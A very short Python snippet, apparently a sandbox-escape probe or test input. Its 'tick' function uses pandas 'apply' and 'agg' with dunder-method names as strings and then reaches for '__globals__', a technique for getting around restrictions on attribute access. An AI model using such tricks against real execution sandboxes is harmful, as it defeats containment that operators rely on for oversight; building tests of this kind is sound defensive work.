import pandas as pd


def tick(ctx):
    return str(pd.Series([1, 2]).apply("__init_subclass__")) or pd.Series([1]).agg("__reduce__")[0].__globals__
